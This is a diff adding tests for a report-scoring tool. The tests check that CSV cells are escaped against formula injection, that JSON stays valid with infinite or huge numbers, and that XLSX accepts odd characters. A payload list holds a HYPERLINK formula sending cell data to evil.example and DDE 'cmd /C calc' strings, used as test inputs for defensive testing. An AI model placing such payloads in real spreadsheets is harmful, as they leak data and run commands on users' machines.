@@ -139,3 +139,92 @@ def test_control_characters_in_a_file_name_are_not_sent_to_the_terminal(tmp_path
     assert result.exit_code == 2
     (line,) = err_lines(result)
     assert "\x1b" not in line and "\x07" not in line and "为空" in line
+
+
+# 3. outputs: no CSV cell runs as a formula, JSON is always valid, XLSX takes any text
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"点")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-1+1", "\tTAB=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("=", "'="), ("+cmd|x", "'+cmd|x"), ("@SUM(A1)", "'@SUM(A1)"), ("-1+1", "'-1+1"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
+    ("-3.5", "-3.5"), ("+12%", "+12%"), ("-1,000.25", "-1,000.25"), ("3", "3"), ("≥90%", "≥90%"), (-3.5, -3.5), ("", ""),
+])
+def test_spreadsheet_safe(value, written):
+    from targetqa.output.rows_csv import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == written
+
+
+def _no_formula(path) -> list[list[str]]:
+    from targetqa.output.rows_csv import _PLAIN_NUMBER
+
+    with path.open(encoding="utf-8-sig", newline="") as fh:
+        rows = list(csv.reader(fh))
+    for row in rows:
+        for value in row:
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or _PLAIN_NUMBER.fullmatch(value), value
+    return rows
+
+
+def test_csv_cells_from_documents_and_file_names_never_run_as_formulas(tmp_path):
+    bad = write_report(tmp_path, "=HYPERLINK(1).txt", FORMULAS, value="=")
+    out = {name: tmp_path / f"{name}.csv" for name in ("score", "extract", "leaderboard")}
+    assert cli("score", bad, "--isolated", "--exit-zero", "--csv", out["score"]).exit_code == 0
+    assert cli("extract", bad, "--csv", out["extract"]).exit_code == 0
+    assert cli("leaderboard", bad, "--isolated", "--exit-zero", "--db", tmp_path / "db.sqlite3",
+               "--csv", out["leaderboard"]).exit_code == 0
+    cells = {name: {v for row in _no_formula(path) for v in row} for name, path in out.items()}
+    assert "'=HYPERLINK(1).txt" in cells["score"] and "'=HYPERLINK(1).txt" in cells["extract"]
+    assert "'" + FORMULAS[0] in cells["extract"] and "'" + FORMULAS[2] in cells["extract"]
+    assert "'=" in cells["extract"]  # the operator column: shown as "=" by Excel, not run
+    assert any("=HYPERLINK(1).txt" in v for v in cells["leaderboard"])
+
+
+def _strict_json(text: str):
+    import json
+
+    def refuse(name):
+        raise AssertionError(f"not JSON: {name}")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_a_400_digit_number_gives_valid_json_and_no_inf_in_messages(tmp_path):
+    huge = "9" * 400
+    bad = tmp_path / "huge.txt"
+    bad.write_text(report_text(["完成率"], value=f"≥{huge}%").replace("测试经费绩效目标表", f"测试经费绩效目标表\n项目资金{huge}万元"),
+                   encoding="utf-8")
+    out_json, out_ex = tmp_path / "score.json", tmp_path / "extract.json"
+    result = cli("score", bad, "--isolated", "--exit-zero", "--json", out_json, "--format", "json")
+    assert result.exit_code == 0
+    for text in (result.stdout, out_json.read_text(encoding="utf-8")):
+        payload = _strict_json(text)
+        messages = [f["message"] + f["evidence"] for r in payload for f in r["findings"]]
+        assert any("UNIT004" == f["code"] for r in payload for f in r["findings"])
+        assert not any("inf" in m for m in messages)
+    assert cli("extract", bad, "--json", out_ex).exit_code == 0
+    _strict_json(out_ex.read_text(encoding="utf-8"))
+
+
+def test_json_safe_turns_infinite_floats_into_null():
+    from targetqa.output.rows_csv import dumps
+
+    assert _strict_json(dumps({"a": float("inf"), "b": [float("nan"), 1.5], "c": (float("-inf"),)})) == \
+        {"a": None, "b": [None, 1.5], "c": [None]}
+
+
+def test_xlsx_takes_any_text_a_document_can_hold(tmp_path):
+    import openpyxl
+
+    odd = ["坏\ufffe字", "坏\uffff字", "控制\x01\x0b\x1f字", "=1+1"]
+    bad = write_report(tmp_path, "odd.txt", odd)
+    out = tmp_path / "book.xlsx"
+    result = cli("score", bad, "--isolated", "--exit-zero", "--xlsx", out, "--html", tmp_path / "page.html")
+    assert result.exit_code == 0, result.stderr
+    wb = openpyxl.load_workbook(out)
+    values = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
+    assert "坏字" in values and "=1+1" in values
+    assert (tmp_path / "page.html").exists()
